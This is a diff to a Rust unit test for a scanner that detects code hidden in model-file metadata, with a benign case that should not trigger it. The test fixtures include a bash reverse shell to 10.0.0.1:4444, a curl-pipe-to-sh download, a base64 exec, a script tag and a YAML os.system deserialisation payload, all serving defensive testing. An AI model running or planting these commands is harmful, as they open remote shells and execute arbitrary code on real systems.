@@ -73,12 +73,14 @@ fn code_in_metadata_is_reported_ordinary_metadata_is_not() {
         r#"{"x":"exec(base64.b64decode('aW1wb3J0IG9z'))"}"#,
         r#"{"setup":"curl http://example.invalid/x | sh"}"#,
         r#"{"card":"<script>alert(1)</script>"}"#,
+        r#"{"x":"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}"#,
+        r#"{"x":"!!python/object/apply:os.system ['id']"}"#,
     ] {
         let f = file(&format!(r#"{{"__metadata__":{meta},{tensor}}}"#), 4, b"");
         assert_eq!(rules(&f), vec!["METADATA-CODE"], "{meta}");
     }
     // What real files carry: a format, a licence, training arguments, URLs.
-    let meta = r#"{"format":"pt","license":"apache-2.0","source":"https://huggingface.co/x/y","eval_steps":"500","evaluation":"exact match"}"#;
+    let meta = r#"{"format":"pt","license":"apache-2.0","source":"https://huggingface.co/x/y","eval_steps":"500","evaluation":"exact match","note":"Call model.eval() before inference."}"#;
     let f = file(&format!(r#"{{"__metadata__":{meta},{tensor}}}"#), 4, b"");
     assert!(rules(&f).is_empty(), "{:?}", rules(&f));
 }
